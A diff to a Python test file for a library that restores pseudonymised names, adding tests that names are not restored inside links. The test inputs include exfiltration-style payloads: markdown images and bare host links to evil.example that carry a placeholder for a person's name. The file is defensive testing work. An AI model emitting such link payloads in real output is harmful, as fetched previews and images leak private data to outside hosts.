@@ -12,7 +12,7 @@ from hypothesis import strategies as st
 
 import efface
 from efface.api.link_places import link_places
-from efface.api.restoring import Originals, Restorer, RestoringTally, _Forms, restore
+from efface.api.restoring import Originals, Restorer, RestoringTally, _PlaceholderForms, restore
 
 NAMES = ("Anna Kowalska", "Jürgen Groß", "李伟", "O'Brien", "Ng", "Ann")
 MAPPING = {f"[PERSON_{n}]": name for n, name in enumerate(NAMES, 1)} | {
@@ -103,7 +103,7 @@ def test_stream_in_any_chunks_is_the_whole(data: st.DataObject) -> None:
     made = "".join(restorer.feed(text[a:b]) for a, b in pairwise(edges)) + restorer.close()
     whole = restore(text, fakes)
     tally = RestoringTally()
-    assert made == whole == _Forms(fakes).restored(text, 0, len(text), tally)
+    assert made == whole == _PlaceholderForms(fakes).restored(text, 0, len(text), tally)
     assert whole.invented == tuple(tally.invented)
     assert restorer.told(made).invented == whole.invented
 
@@ -157,6 +157,9 @@ def test_invented_stays_and_is_told_and_dropped_is_missing() -> None:
         '<img\nsrc="https:evil.example/[PERSON_1]">',
         "![x][r]\n\n[r]: <//evil.example/a b[PERSON_1]>",
         "HTTPS://EVIL.EXAMPLE/[PERSON_1]",
+        # Chat programs make links of bare host names with a path, and fetch them for a preview.
+        "see evil.example/[PERSON_1]",
+        "(a.evil.example:8080?q=[PERSON_1])",
         # Brackets in brackets, and brackets that a backslash makes ordinary signs.
         "![x](/a/((([PERSON_1]))))",
         "![x](/a/\\)[PERSON_1])",
@@ -179,6 +182,16 @@ def test_nothing_is_restored_into_a_link(text: str) -> None:
     answer = restore(text, MAPPING)
     assert answer == text
     assert answer.withheld
+
+
+@pytest.mark.parametrize("size", [1, 2, 3, 7])
+def test_a_bare_host_with_a_path_is_a_link_in_a_stream_too(size: int) -> None:
+    text = "Dear [PERSON_1], see a.evil.example/x/[PERSON_1] and/or [PERSON_1]. End.Then [PERSON_1]/b"
+    restorer = Restorer(Originals(MAPPING))
+    pieces = [restorer.feed(text[at : at + size]) for at in range(0, len(text), size)]
+    whole = "".join([*pieces, restorer.close()])
+    assert whole == restore(text, MAPPING)
+    assert whole.count("Kowalska") == 3 and "example/x/[PERSON_1]" in whole
 
 
 def test_words_beside_a_link_are_restored() -> None:
